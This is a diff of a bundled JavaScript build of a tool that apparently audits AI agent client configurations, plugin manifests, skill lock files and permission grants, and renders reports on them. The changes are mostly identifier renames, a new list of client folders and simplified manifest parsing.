 	return typeof value === "object" && value !== null && !Array.isArray(value) ? value : {};
 }
 // src/report/html/change.ts
@@ -4025,7 +4069,7 @@ function beforeAndAfter({ before, after }) {
 	const differences = differencesOf$1(before ?? void 0, after ?? void 0);
 	const sides = ["before", "after"].map((side) => ({
 		side,
-		lines: linesOf$3(differences, side)
+		lines: linesOf$4(differences, side)
 	})).filter(({ lines }) => lines.length > 0);
 	if (sides.length === 0) return [];
 	const change = element("div", { class: "change" }, ...sides.map(sideHtml));
@@ -4036,7 +4080,7 @@ function sideHtml({ side, lines }) {
 	const rows = lines.map((line) => element("code", {}, line === "" ? " " : line));
 	return element("div", { class: side }, visuallyHidden(`${side}: `), ...rows);
 }
-function linesOf$3(differences, side) {
+function linesOf$4(differences, side) {
 	const lines = differences.flatMap((difference) => scalarLines(difference.path, difference[side]));
 	const omitted = lines.length - maxLines$1;
 	return omitted > 0 ? [...lines.slice(0, maxLines$1), `\u2026 ${omitted} more lines`] : lines;
@@ -4251,7 +4295,7 @@ function tableHtml({ columns, rows, omitted }, pageOptions) {
 		"aria-label": "Table"
 	};
 	if (rows.length === 0) return omittedRows;
-	return [element("div", scrolled, table$2(titles, body)), ...omittedRows];
+	return [element("div", scrolled, table$3(titles, body)), ...omittedRows];
 }
 function foldHtml(title, content) {
 	return element("details", { class: "fold" }, element("summary", {}, title), ...content);
@@ -4283,23 +4327,23 @@ function named(name) {
 	return [name, null];
 }
 function listed(value) {
-	const { name, pattern } = fieldsOf(value);
+	const { name, pattern } = fieldsOf$1(value);
 	return [textOf$3(name ?? pattern), value];
 }
 function term(name, items) {
-	return items.length === 0 ? [] : [element("dt", {}, name), element("dd", {}, listOf$1(items))];
+	return items.length === 0 ? [] : [element("dt", {}, name), element("dd", {}, listOf$2(items))];
 }
-function listOf$1(items) {
+function listOf$2(items) {
 	return element("ul", {}, ...listItems(items, maxItems, itemHtml));
 }
 function itemHtml([name, value]) {
-	const { required, optional, sensitive, range, description, inputs } = fieldsOf(value);
+	const { required, optional, sensitive, range, description, inputs } = fieldsOf$1(value);
 	const need = required === true ? "required" : optional === true ? "optional" : "";
-	return spaced(code(name), range === void 0 ? "" : code(textOf$3(range)), need === "" ? "" : element("small", {}, need), ...sensitive === true ? ["sensitive"] : typeOf(value), textOf$3(description), Array.isArray(inputs) && inputs.length > 0 ? listOf$1(inputs.map(listed)) : "");
+	return spaced(code(name), range === void 0 ? "" : code(textOf$3(range)), need === "" ? "" : element("small", {}, need), ...sensitive === true ? ["sensitive"] : typeOf(value), textOf$3(description), Array.isArray(inputs) && inputs.length > 0 ? listOf$2(inputs.map(listed)) : "");
 }
 function typeOf(value) {
-	const { type, schema, default: fallback } = fieldsOf(value);
-	const { type: schemaType, ...details } = fieldsOf(schema);
+	const { type, schema, default: fallback } = fieldsOf$1(value);
+	const { type: schemaType, ...details } = fieldsOf$1(schema);
 	const name = type ?? schemaType;
 	const others = type === void 0 ? scalarsText(details, maxText) : "";
 	return [
@@ -4356,49 +4400,26 @@ function select(filter, label, values, none = "") {
 	const options = values.map((value) => element("option", { value: `=${value}` }, value || none));
 	return element("label", {}, element("span", {}, label), element("select", { name: filter }, element("option", { value: "" }, "all"), ...options));
 }
-// src/model/declared-power.ts
-const declaredKinds = [
-	...[
-		"run",
-		"read",
-		"write",
-		"net",
-		"secret"
-	],
-	...[
-		"db.read",
-		"db.write",
-		"git.read",
-		"git.write"
-	],
-	...["effect", "mode"]
-];
 // src/model/catalogue.ts
 const catalogueKinds = [
-	...[
-		"run",
-		"approve",
-		"auto",
-		"mcp",
-		"read",
-		"write",
-		"net",
-		"secret"
-	],
-	...[
-		"install",
-		"delegate",
-		"settings"
-	],
-	...declaredKinds.slice(declaredKinds.indexOf("db.read")),
+	"run",
+	"approve",
+	"auto",
+	"mcp",
+	"read",
+	"write",
+	"net",
+	"secret",
+	"install",
+	"delegate",
+	"settings",
+	"effect",
 	"guard"
 ];
 function isGrown({ kind, change }) {
 	return change === "undecided" || change === (kind === "guard" ? "lost" : "gained");
 }
-// src/report/html/permissions.ts
-const maxOfKind = 12;
-const maxScope = 120;
+// src/report/facts/kind-words.ts
 const kindWords$1 = {
 	run: "Run commands",
 	approve: "Without asking",
@@ -4411,14 +4432,12 @@ const kindWords$1 = {
 	install: "Install",
 	delegate: "Agents",
 	settings: "Settings",
-	"db.read": "Read databases",
-	"db.write": "Write databases",
-	"git.read": "Read git",
-	"git.write": "Write git",
 	effect: "Other effects",
-	mode: "Modes",
 	guard: "Limits"
 };
+// src/report/html/permissions.ts
+const maxOfKind = 12;
+const maxScope = 120;
 function unitsOf$1({ skills, units }) {
 	return [...units, ...skills.map((skill) => ({
 		...skill,
@@ -4480,7 +4499,7 @@ function places(powers, root, pageOptions) {
 function scopeHtml({ scope, text, when, change }) {
 	const reach = scope === "*" ? "any" : truncate(scope, maxScope);
 	const content = spaced(element("code", { title: truncate(text, maxScope) }, reach), truncate(when, maxScope));
-	if (change === null) return content;
+	if (change === null || change === "moved") return content;
 	if (change === "lost") return element("s", { class: "lost" }, visuallyHidden("no longer: "), content);
 	return fragment(element("span", { class: "gained" }, visuallyHidden(change === "gained" ? "new: " : "may be new: "), content));
 }
@@ -4499,7 +4518,7 @@ function skillList$1(skills, pageOptions) {
 	const unchanged = shown.filter(({ status }) => status === "unchanged");
 	const others = shown.filter(({ status }) => status !== "unchanged");
 	const list = (entries) => {
-		const items = entries.map((entry) => skill$3(entry, pageOptions));
+		const items = entries.map((entry) => skill$5(entry, pageOptions));
 		return items.length === 0 ? [] : [element("div", { class: "skills" }, ...items)];
 	};
 	const title = fragment(formatCount(unchanged.length, "unchanged skill"));
@@ -4521,7 +4540,7 @@ function foldFilter(amount) {
 		role: "status"
 	}, `${formatNumber(amount)} shown`));
 }
-function skill$3(entry, pageOptions) {
+function skill$5(entry, pageOptions) {
 	const { name, root, status, contract, path, version, isUnreadable } = entry;
 	const { description } = contract;
 	const noVersion = isUnreadable ? "unreadable" : "no version";
@@ -4646,10 +4665,11 @@ function reportItem(finding, { report, id }, pageOptions) {
 			fingerprintHtml(fingerprint)
 		]
 	};
-	const help = helpTexts(finding, report);
+	const [help, notes] = [helpTexts(finding, report), notesOf(finding, report)];
 	return findingItem({
 		...finding,
-		help
+		help,
+		notes
 	}, shown, pageOptions);
 }
 function changeItem(change, pageOptions) {
@@ -4691,7 +4711,7 @@ function rowFindings(report, pageOptions) {
 	return countedIn(report).permissions.slice(0, pageOptions.findings);
 }
 function changedPermissions(report, pageOptions) {
-	const rows = permissionRows(permissionsOf(report));
+	const rows = permissionRows$2(permissionsOf(report));
 	const shown = rows.slice(0, pageOptions.findings);
 	const items = withEachOnce(shown).map((row) => rowHtml(row, pageOptions));
 	return [...items.length === 0 ? [] : [element("ul", { class: "permissions" }, ...items)], ...omittedHtml(rows.length - shown.length)];
@@ -5038,7 +5058,7 @@ footer { margin-top: 2.5rem; padding-top: .75rem; border-top: 1px solid var(--li
 const maxPageBytes = 4194304;
 function pageTitle(block, passes) {
 	const text = block?.kind === "heading" ? plainLine$2(block.line).trim() : "";
-	return `${passes ? "\u2713" : "\u2717"} ${text}`;
+	return passes === null ? text : `${passes ? "\u2713" : "\u2717"} ${text}`;
 }
 function pageText({ title, header, sections }) {
 	const shown = sections.filter(({ content }) => content.length > 0);
@@ -5240,9 +5260,10 @@ function powerChangeJson({ change, power, previous }) {
 		was: previousPlace
 	};
 }
-function powerJson({ kind, scope, trigger, subject, unit, at }) {
+function powerJson({ kind, feature, scope, trigger, subject, unit, at }) {
 	return {
 		kind,
+		feature,
 		scope,
 		when: plainText$1(triggerWords(trigger, unit.kind)),
 		subject,
@@ -5410,10 +5431,10 @@ function findingLine(finding, report) {
 	return neutralizeCommands(`${path === "" ? "" : `${escapeInvisible(path)}${start}: `}${finding.severity}: ${oneLine(finding, report)}`);
 }
 // src/report/markdown-text.ts
-const maxLength$10 = 400;
+const maxLength$11 = 400;
 const maxName = 64;
 function codeSpan(text) {
-	const escaped = neutralizeCommands(truncate(escapeInvisible(text), maxLength$10));
+	const escaped = neutralizeCommands(truncate(escapeInvisible(text), maxLength$11));
 	if (escaped === "") return "`\"\"`";
 	const runs = escaped.match(/`+/g) ?? [];
 	const ticks = "`".repeat(runs.reduce((longestRun, run) => Math.max(longestRun, run.length), 0) + 1);
@@ -5430,7 +5451,7 @@ function nameText(text) {
 function isPlainText(path) {
 	return path.split("/").every((segment) => nameText(segment) === segment);
 }
-function link(label, links, path, line) {
+function link$1(label, links, path, line) {
 	if (links === null || path === "") return label;
 	return `[${label}](${fileUrl$1(links, path, line)})`;
 }
@@ -5475,7 +5496,7 @@ function ruleLink(id, { docs }) {
 }
 function placeLink(at, page, label) {
 	if (at.path === "") return label ?? "the repository";
-	return link(label ?? placeLabel(at, page), linksAt(at, page), at.path, at.range?.start.line);
+	return link$1(label ?? placeLabel(at, page), linksAt(at, page), at.path, at.range?.start.line);
 }
 function placeLabel({ path, range }, { links }) {
 	const shown = links === null ? path : path.split("/").slice(-2).join("/");
@@ -5520,9 +5541,9 @@ function stepsText({ title, steps }, page) {
 }
 function listText({ title, items, omitted = 0 }, page) {
 	const lines = items.map((item) => itemText(item, page));
-	return [...titleText(title, page), ...linesOf$2([...lines, ...omittedLine(omitted)])];
+	return [...titleText(title, page), ...linesOf$3([...lines, ...omittedLine(omitted)])];
 }
-function linesOf$2(lines) {
+function linesOf$3(lines) {
 	return lines.length === 0 ? [] : [lines.join("\n")];
 }
 function omittedLine(omitted) {
@@ -5567,7 +5588,7 @@ function tableText({ title, columns, rows, omitted = 0 }, page) {
 	];
 	return [
 		...titleText(title, page),
-		...rows.length > 0 ? linesOf$2(lines) : [],
+		...rows.length > 0 ? linesOf$3(lines) : [],
 		...omitted > 0 ? [`and ${omitted} more`] : []
 	];
 }
@@ -5598,7 +5619,7 @@ function htmlText(line) {
 }
 function findingsText({ title, files, omitted = 0 }, page) {
 	const lines = files.flatMap(({ findings }) => findings).map((entry) => entryText(entry, page));
-	return [...titleText(title, page), ...linesOf$2([...lines, ...omittedLine(omitted)])];
+	return [...titleText(title, page), ...linesOf$3([...lines, ...omittedLine(omitted)])];
 }
 function entryText(entry, page) {
 	const { severity, state, message, isTitle, rule, amount, places, help, hasStep, notes } = entry;
@@ -5885,8 +5906,33 @@ function foldName(name) {
 }
 const plainName$3 = /^[a-z0-9_.-]*[a-z0-9_-]$/;
 const ignorable = /\p{Default_Ignorable_Code_Point}|[\u200c-\u200f\u202a-\u202e\u206a-\u206f\ufeff]/gu;
+// src/model/text/word-list.ts
+function wordList(text) {
+	return text.trim().split(/\s+/);
+}
 // src/model/text/client-names.ts
+const otherClientFolders = [
+	".amazonq",
+	".amp",
+	".augment",
+	".cline",
+	".codebuddy",
+	".continue",
+	".crush",
+	".factory",
+	".goose",
+	".iflow",
+	".junie",
+	".kilocode",
+	".kiro",
+	".qwen",
+	".roo",
+	".trae",
+	".windsurf",
+	".zed"
+];
 const clientFolders = [
+	...otherClientFolders,
 	".agents",
 	".claude",
 	".codex",
@@ -5914,8 +5960,10 @@ const pluginParts = [
 	"agents",
 	"bin",
 	"commands",
+	"extensions",
 	"hooks",
 	"hooks.json",
+	"mcp.json",
 	"monitors",
 	"output-styles",
 	"package.json",
@@ -5924,20 +5972,11 @@ const pluginParts = [
 	"skills",
 	"workflows"
 ];
-const inFolders = [
-	"config.toml",
-	"marketplace.json",
-	"mcp.json",
-	"monitors.json",
-	"openai.yaml",
-	"plugin",
-	"plugins",
-	"settings.local.json",
-	"tool",
-	"tools",
-	"SKILL.md",
-	"skill.toml"
-];
+const inFolders = wordList(`
+  agent cli.json command config.toml copilot environment.json extension.mjs lsp.json marketplace.json
+  mode modes monitors.json openai.yaml permissions.json plugin plugins sandbox.json
+  settings.local.json tasks.json tool tools worktrees.json SKILL.md skill.toml
+`);
 const knownNames = new Map([...pluginParts, ...inFolders].map((name) => [foldName(name), name]));
 const plainPath$1 = /^(?:[a-z0-9_-]|[./](?=[a-z0-9_.-]))+$/;
 function clientSpellings(path) {
@@ -5963,6 +6002,9 @@ function clientPlace(path) {
 	if (index !== -1 && index < names.length - 1) return names.slice(0, index + 1).join("/");
 	return isClientFile.has(foldName(nameOf$3(path))) ? path : null;
 }
+function isOtherClientFolder(name) {
+	return otherClientFolders.includes(name);
+}
 const isClientFolder = new Set(clientFolders);
 const isClientFile = new Set(clientFiles$1);
 function isPluginPart(path) {
@@ -5970,10 +6012,10 @@ function isPluginPart(path) {
 }
 const isPart = new Set(pluginParts);
 // src/syntax/glob/file-glob.ts
-const maxLength$9 = 1024;
+const maxLength$10 = 1024;
 function fileGlob(glob) {
-	if (glob.length > maxLength$9 || /^[/~]/.test(glob)) return void 0;
-	const patterns = expandBraces$1(glob)?.map((expansion) => expansion.split("/").filter(isNamed));
+	if (glob.length > maxLength$10 || /^[/~]/.test(glob)) return void 0;
+	const patterns = expandBraces$1(glob)?.map((expansion) => expansion.split("/").filter(isNamed$1));
 	if (!patterns || patterns.some((pattern) => pattern.length === 0 || pattern.includes(".."))) return;
 	const segmentPatterns = patterns.map((pattern) => [...pattern, ...trailingSegment(pattern)].map((segment) => parseSegment(segment)));
 	return (path) => segmentPatterns.some((pattern) => matchesPath(pattern, path));
@@ -5981,7 +6023,7 @@ function fileGlob(glob) {
 function matchesPath(pattern, path) {
 	return matches$2(pattern, path, matchesSegment);
 }
-function isNamed(segment) {
+function isNamed$1(segment) {
 	return segment !== "" && segment !== ".";
 }
 function expandBraces$1(glob) {
@@ -5989,7 +6031,7 @@ function expandBraces$1(glob) {
 	for (const part of glob.split(/(\{[^{}]*\})/)) {
 		const choices = part.startsWith("{") && part.includes(",") ? part.slice(1, -1).split(",") : [part];
 		const size = choices.length * glob.length;
-		if (expansions.length * size > Math.max(maxLength$9, glob.length)) return void 0;
+		if (expansions.length * size > Math.max(maxLength$10, glob.length)) return void 0;
 		expansions = expansions.flatMap((prefix) => choices.map((choice) => prefix + choice));
 	}
 	return expansions;
@@ -6276,7 +6318,7 @@ function normalizeLineEndings$1(text) {
 	return text.replaceAll("\r\n", "\n").trimEnd();
 }
 // src/syntax/scalar.ts
-function scalar$1(value, source, at) {
+function scalar$2(value, source, at) {
 	if (value === null || value === void 0) return {
 		kind: "null",
 		value: null,
@@ -6586,7 +6628,7 @@ function parseJson(path, text, offset = 0, lines = new LineMap(text)) {
 			at: locate(start, end)
 		});
 	}
-	const reader = new Reader$5(text, locate);
+	const reader = new Reader$6(text, locate);
 	return {
 		root: reader.value((0, import_packages.jsonPackage)().parse(text).body),
 		faults: [],
@@ -6594,7 +6636,7 @@ function parseJson(path, text, offset = 0, lines = new LineMap(text)) {
 		merges: reader.merges
 	};
 }
-var Reader$5 = class {
+var Reader$6 = class {
 	duplicates = [];
 	merges = [];
 	#text;
@@ -6614,8 +6656,8 @@ var Reader$5 = class {
 			};
 			case "String":
 			case "Number":
-			case "Boolean": return scalar$1(node.value, this.#source(node), at);
-			default: return scalar$1(null, this.#source(node), at);
+			case "Boolean": return scalar$2(node.value, this.#source(node), at);
+			default: return scalar$2(null, this.#source(node), at);
 		}
 	}
 	#table(members, at) {
@@ -6748,7 +6790,8 @@ function entryOf$2(entry) {
 			value: written,
 			at: value.at
 		},
-		skills: []
+		skills: [],
+		parts: []
 	};
 }
 // src/listings/digest-index.ts
@@ -6849,26 +6892,11 @@ function digestedFiles(indexes, rootsOf) {
 	}
 	return paths;
 }
-// src/model/words/shown-value.ts
-function shownValue(value) {
-	switch (value.kind) {
-		case "list": return words("a list");
-		case "table": return words("a mapping");
-		case "null": return words("empty");
-		case "string": return valuePart(value.value);
-		default: return {
-			kind: "value",
-			text: value.source
-		};
-	}
-}
 // src/listings/marketplace.ts
-const rule = "plugin-manifest-shape";
-const rejectedMarketplace = msg`Claude Code rejects the whole marketplace.`;
 const marketplaceKind = {
 	rule: "marketplace-syntax",
 	name: "marketplace",
-	consequence: rejectedMarketplace,
+	consequence: msg`Claude Code rejects the whole marketplace.`,
 	uniqueKeys: [
 		"plugins",
 		"source",
@@ -6883,21 +6911,15 @@ const pluginManifestKind = {
 	uniqueKeys: ["skills"]
 };
 function readMarketplace$1(path, text) {
-	const document = readDocument$1(path, text, marketplaceKind);
-	const table = document.root ?? void 0;
-	const pluginList = get(table, "plugins");
-	const problems = [...document.problems];
-	if (table && pluginList?.kind !== "list") {
-		const message = pluginList ? msg`${code$1("plugins")} is ${shownValue(pluginList)}, not a list. ${rejectedMarketplace}` : msg`Missing ${code$1("plugins")}. ${rejectedMarketplace}`;
-		problems.push({
-			rule,
-			message,
-			at: pluginList?.at ?? { path },
-			about: "plugins"
-		});
-	}
-	const plugins = items(pluginList).flatMap((item, index) => parseEntry$3(item, index, problems) ?? []);
-	const pluginRoot = parsePluginRoot(get(get(table, "metadata"), "pluginRoot"), problems);
+	const { root, problems } = readDocument$1(path, text, marketplaceKind);
+	const table = root ?? void 0;
+	const rootValue = get(get(table, "metadata"), "pluginRoot");
+	const pluginRoot = located(rootValue)[0] ?? null;
+	const isRootUnknown = rootValue !== void 0 && pluginRoot === null;
+	const plugins = items(get(table, "plugins")).flatMap(parseEntry$3).map((entry) => isRootUnknown && !entry.source?.value.startsWith(".") ? {
+		...entry,
+		source: null
+	} : entry);
 	return {
 		path,
 		root: folderOf(folderOf(path)),
@@ -6908,79 +6930,63 @@ function readMarketplace$1(path, text) {
 	};
 }
 function readPluginManifest(path, text) {
-	const root = folderOf(folderOf(path));
-	const document = readDocument$1(path, text, pluginManifestKind);
-	const table = document.root ?? void 0;
-	const problems = [...document.problems];
-	const name = text$1(get(table, "name")) ?? nameOf$3(root);
+	const folder = folderOf(folderOf(path));
+	const { root, problems } = readDocument$1(path, text, pluginManifestKind);
+	const table = root ?? void 0;
 	return {
 		path,
-		root,
-		name,
-		skills: parseSkills$1(get(table, "skills"), name, problems),
+		root: folder,
+		name: text$1(get(table, "name")) ?? nameOf$3(folder),
+		skills: pathsOf$5(get(table, "skills")),
+		parts: readParts$1(table),
 		problems,
 		text
 	};
 }
-function parsePluginRoot(value, problems) {
-	const written = text$1(value);
-	if (!value || written !== void 0) return value ? {
-		value: written ?? "",
-		at: value.at
-	} : null;
-	const message = msg`${code$1("pluginRoot")} is ${shownValue(value)}, not a path. ${rejectedMarketplace}`;
-	problems.push({
-		rule,
-		message,
-		at: value.at,
-		about: "pluginRoot"
-	});
-	return null;
-}
-function parseEntry$3(item, index, problems) {
-	const report = (message, at, about) => {
-		problems.push({
-			rule,
-			message,
-			at,
-			about
-		});
-		return null;
-	};
-	if (item.kind !== "table") return report(msg`Plugin ${index + 1} is ${shownValue(item)}, not a mapping. ${rejectedMarketplace}`, item.at, `plugin\0${index}`);
-	const name = text$1(get(item, "name")) ?? `plugin ${index + 1}`;
-	const source = item.fields.get("source");
-	if (!source) return report(msg`Plugin ${namePart(name)} has no ${code$1("source")}. ${rejectedMarketplace}`, item.fields.get("name")?.keyAt ?? item.at, `${name}\0source`);
-	const written = text$1(source.value);
-	if (written === "" || written === void 0 && source.value.kind !== "table") return report(msg`${code$1("source")} of plugin ${namePart(name)} is ${shownValue(source.value)}, not a path. ${rejectedMarketplace}`, source.value.at, `${name}\0source`);
-	const isLocal = written !== void 0 && !/^[a-z][a-z\d+.-]+:|^[\w.-]+@[\w.-]+:/i.test(written);
-	const skills = parseSkills$1(get(item, "skills"), name, problems);
+function listedPathsOf(manifest) {
 	return {
-		name,
-		source: isLocal ? {
-			value: written,
-			at: source.value.at
-		} : null,
-		skills
+		skills: pathsOf$5(get(manifest, "skills")),
+		parts: readParts$1(manifest)
 	};
 }
-function parseSkills$1(value, name, problems) {
-	if (!value) return [];
-	return (value.kind === "list" ? value.items : [value]).flatMap((item) => {
-		const written = text$1(item);
-		if (written !== void 0) return {
-			value: written,
-			at: item.at
-		};
-		const message = msg`${code$1("skills")} of plugin ${namePart(name)} has ${shownValue(item)}, not a path.`;
-		problems.push({
-			rule,
-			message,
-			at: item.at,
-			about: `${name}\0skills`
+function parseEntry$3(item, index) {
+	const source = get(item, "source");
+	const written = text$1(source);
+	if (item.kind !== "table" || !source || !written && source.kind !== "table") return [];
+	return [{
+		name: text$1(get(item, "name")) ?? `plugin ${index + 1}`,
+		source: /^[a-z][a-z\d+.-]+:|^[\w.-]+@[\w.-]+:/i.test(written ?? "") ? null : located(source)[0] ?? null,
+		skills: pathsOf$5(get(item, "skills")),
+		parts: readParts$1(item)
+	}];
+}
+function readParts$1(table) {
+	return ["agents", "commands"].flatMap((kind) => {
+		const value = get(table, kind);
+		const sources = fields(value).map((field) => get(field.value, "source"));
+		return [
+			value,
+			...items(value),
+			...sources
+		].flatMap((item) => {
+			const written = text$1(item);
+			return item && written !== void 0 ? {
+				kind,
+				value: written,
+				at: item.at
+			} : [];
 		});
-		return [];
 	});
+}
+function pathsOf$5(value) {
+	return [value, ...items(value)].flatMap(located);
+}
+function located(value) {
+	const written = text$1(value);
+	return value && written !== void 0 ? [{
+		value: written,
+		at: value.at
+	}] : [];
 }
 function submodulesOf(text) {
 	return [...text.matchAll(/^[ \t]*path[ \t]*=[ \t]*"?([^"\r\n]*?)"?[ \t]*$/gm)].map(([, path = ""]) => path.replace(/\/+$/, ""));
@@ -9514,7 +9520,7 @@ function foreignCollectionTag(tag, kind) {
 const yaml$2 = faultIn("YAML");
 const maxValues$1 = 2e5;
 const charactersPerValue = 256;
-var Reader$4 = class {
+var Reader$5 = class {
 	fault = null;
 	duplicates = [];
 	merges = [];
@@ -9607,7 +9613,7 @@ var Reader$4 = class {
 		this.#count(at, 1 + Math.floor(source.length / charactersPerValue), depth);
 		const tag = tagOf(event, this.#text);
 		const keptTag = foreignTag(tag, source);
-		const value = scalar$1(resolveScalar(event, source, tag), source, at);
+		const value = scalar$2(resolveScalar(event, source, tag), source, at);
 		return keptTag ? {
 			...value,
 			tag: keptTag
@@ -9768,7 +9774,7 @@ function* parsedDocuments(text, locate) {
 		};
 		return;
 	}
-	const reader = new Reader$4(locate);
+	const reader = new Reader$5(locate);
 	for (const { start, end } of documentsIn(text)) {
 		const document = text.slice(start, end);
 		const events = parseToEvents(document, (from, to) => locate(start + from, start + to));
@@ -9873,9 +9879,9 @@ function mightContain(text, words) {
 	const unescapedText = decodeEscapes(text);
 	return words.every((word) => unescapedText.includes(word));
 }
-const escapes$2 = /\\(?:x([\da-fA-F]{2})|u([\da-fA-F]{4})|U([\da-fA-F]{8})|\r?\n[ \t]*)/g;
+const escapes$3 = /\\(?:x([\da-fA-F]{2})|u([\da-fA-F]{4})|U([\da-fA-F]{8})|\r?\n[ \t]*)/g;
 function decodeEscapes(text) {
-	return text.replace(escapes$2, (match, ...digits) => {
+	return text.replace(escapes$3, (match, ...digits) => {
 		const code = Number.parseInt(digits.slice(0, 3).find((digit) => digit !== void 0) ?? "", 16);
 		if (Number.isNaN(code)) return "";
 		return code <= 1114111 ? String.fromCodePoint(code) : match;
@@ -10238,7 +10244,7 @@ function looksLikeProtoLock(text) {
 }
 // src/locks/formats/apm-lock.ts
 const ownHashesField = "local_deployed_file_hashes";
-const entryKeys$2 = [ownHashesField, "dependencies"];
+const entryKeys = [ownHashesField, "dependencies"];
 const apmLock = {
 	id: "apm-lock",
 	title: "Lock of apm",
@@ -10251,7 +10257,7 @@ const apmLock = {
 	},
 	lookupBy: "path",
 	parse(path, text) {
-		if (!mightContain(text, ["lockfile_version"]) || !entryKeys$2.some((key) => mightContain(text, [key]))) return null;
+		if (!mightContain(text, ["lockfile_version"]) || !entryKeys.some((key) => mightContain(text, [key]))) return null;
 		const { root, faults, duplicates } = parseYaml(path, text);
 		const format = "apm-lock";
 		const fault = faults[0];
@@ -10264,7 +10270,7 @@ const apmLock = {
 			isIncomplete: true
 		};
 		if (!root || !looksLikeLock$1(root)) return null;
-		const reader = new Reader$3(folderOf(path));
+		const reader = new Reader$4(folderOf(path));
 		return {
 			path,
 			format,
@@ -10284,7 +10290,7 @@ function looksLikeLock$1(root) {
 	const dependencies = getWithMerges(root, "dependencies");
 	return getWithMerges(root, "lockfile_version") !== void 0 && (dependencies?.kind === "list" || getWithMerges(root, ownHashesField) !== void 0);
 }
-var Reader$3 = class {
+var Reader$4 = class {
 	problems = [];
 	#folder;
 	#malformedCount = 0;
@@ -10548,10 +10554,6 @@ const kitLock = {
 		return /"lockfileVersion"\s*:\s*2\b/.test(text) && text.includes("\"sha256-16:") ? parseJsonLock(path, text, jsonForm) : null;
 	}
 };
-// src/model/text/word-list.ts
-function wordList(text) {
-	return text.trim().split(/\s+/);
-}
 // src/locks/formats/skill-lock-v3.ts
 const lockFormat$5 = {
 	format: "skill-lock-v3",
@@ -10834,7 +10836,7 @@ const sklockLock = {
 	parse: (path, text) => mightContain(text, ["contentHash", "closureHash"]) ? parseJsonLock(path, text, lockFormat$1) : null
 };
 // src/locks/formats/toolhive-lock.ts
-const fileName = "toolhive.lock.yaml";
+const fileName$1 = "toolhive.lock.yaml";
 const field = "contentDigest";
 const lockFormat = {
 	format: "toolhive-lock",
@@ -10878,7 +10880,7 @@ const toolhiveLock = {
 	id: lockFormat.format,
 	title: "Lock of ToolHive",
 	source: "toolhive.lock.yaml, version 1",
-	files: [fileName],
+	files: [fileName$1],
 	field,
 	writer: {
 		name: "ToolHive",
@@ -10886,7 +10888,7 @@ const toolhiveLock = {
 	},
 	lookupBy: "installed",
 	parse(path, text) {
-		return nameOf$3(path) === fileName || mightContain(text, ["skills", field]) ? parseYamlLock(path, text, lockFormat) : null;
+		return nameOf$3(path) === fileName$1 || mightContain(text, ["skills", field]) ? parseYamlLock(path, text, lockFormat) : null;
 	}
 };
 // src/locks/read.ts
@@ -11004,140 +11006,6 @@ function problem$1(path, message, help) {
 		about: "unrecognised"
 	};
 }
-// src/powers/examples/example.ts
-function exampleOf$1(kind, scope, [granting, without, ...equivalents]) {
-	return {
-		kind,
-		scope,
-		granting,
-		without,
-		equivalents
-	};
-}
-function exampleWriter(write) {
-	return (kind, scope, [granting, without, ...others]) => exampleOf$1(kind, scope, [
-		write(granting),
-		write(without),
-		...others.map((it) => write(it))
-	]);
-}
-// src/powers/support/fields.ts
-function unreadFields(table, known, prefix = "") {
-	return fields(table).flatMap(({ key, keyAt, value }) => known.has(key) ? [] : [{
-		field: `${prefix}${key}`,
-		value: canonical(toJson(value)),
-		at: keyAt
-	}]);
-}
-function wrongType(field, value, { expected, consequence }) {
-	const type = typeof expected === "string" ? words(expected) : expected;
-	return grantFault(msg`${msg`${code$1(field)} is ${shownValue(value)}, not ${type}.`} ${sentence(words(consequence))}.`, value.at);
-}
-function grantFault(message, at, help) {
-	return {
-		message,
-		help,
-		at,
-		isUnreadable: false
-	};
-}
-function stringsOf(value) {
-	if (!value) return [];
-	const list = value.kind === "list" ? value.items : [value];
-	const strings = list.flatMap((item) => item.kind === "string" ? [{
-		text: String(item.value),
-		at: item.at
-	}] : []);
-	return strings.length === list.length ? strings : null;
-}
-// src/powers/settings/entries.ts
-const inRepository = { start: "enabled" };
-function settingGrant(subject, scope, { at, ...more }) {
-	return {
-		kind: "settings",
-		feature: "setting",
-		reach: "one",
-		subject,
-		scope,
-		trigger: inRepository,
-		at,
-		...more
-	};
-}
-function folderGrant({ text: folder, at }, base) {
-	const path = normalizeFolder(folder);
-	if (/[*?[{]/.test(path)) return {
-		...base,
-		scope: path,
-		reach: "one",
-		at
-	};
-	return {
-		...base,
-		scope: path,
-		reach: "prefix",
-		at
-	};
-}
-function normalizeFolder(folder) {
-	const [, root = "", rest = ""] = /^(\/*)(.*)$/s.exec(folder.trim()) ?? [];
-	const segments = [];
-	for (const segment of rest.split("/")) {
-		if (segment === "" || segment === ".") continue;
-		const last = segments.at(-1);
-		if (segment === ".." && last !== void 0 && last !== ".." && last !== "~") segments.pop();
-		else segments.push(segment);
-	}
-	return `${root}${segments.map((segment) => `${segment}/`).join("")}` || "./";
-}
-function offSwitch(field, prefix, guarding) {
-	if (!field) return {};
-	const { key, value } = field;
-	const name = `${prefix}${key}`;
-	const read = typeof guarding === "boolean" ? flag$1(value) : text$1(value);
-	if (read === void 0) return { faults: [wrongSwitch(name, value, guarding)] };
-	if (read !== guarding) return {};
-	return { grants: [settingGrant(name, `${name}: ${read}`, {
-		kind: "guard",
-		at: value.at
-	})] };
-}
-function onSwitch(field, prefix, remark, granting = true) {
-	if (!field) return {};
-	const { key, value } = field;
-	const name = `${prefix}${key}`;
-	const read = flag$1(value);
-	if (read === void 0) return { faults: [wrongSwitch(name, value, granting)] };
-	if (read !== granting) return {};
-	return { grants: [settingGrant(name, `${name}: ${read}`, {
-		remark,
-		at: value.at
-	})] };
-}
-function wrongSwitch(name, value, other) {
-	return wrongType(name, value, {
-		expected: typeof other === "boolean" ? "true or false" : msg`${valuePart(other)}`,
-		consequence: "the client does not use it"
-	});
-}
-function listGrants(field, prefix, grantOf) {
-	if (!field) return {};
-	const name = `${prefix}${field.key}`;
-	const entries = field.value.kind === "list" ? stringsOf(field.value) : null;
-	if (entries) return { grants: entries.map((entry) => grantOf(entry, name)) };
-	return { faults: [{
-		...wrongType(name, field.value, {
-			expected: "a list of strings",
-			consequence: "the client does not use it"
-		}),
-		isUnreadable: true
-	}] };
-}
-function opaqueSetting(field, prefix) {
-	if (!field) return {};
-	const name = `${prefix}${field.key}`;
-	return { grants: [settingGrant(name, `${name}: ${canonical(toJson(field.value))}`, { at: field.keyAt })] };
-}
 // src/powers/support/carrier-result.ts
 const nothing$1 = {
 	grants: [],
@@ -11154,44 +11022,56 @@ function combine$1(...parts) {
 		version: parts.find(({ version }) => version !== void 0)?.version,
 		named: parts.flatMap(({ named = [] }) => named),
 		plugins: parts.flatMap(({ plugins = [] }) => plugins),
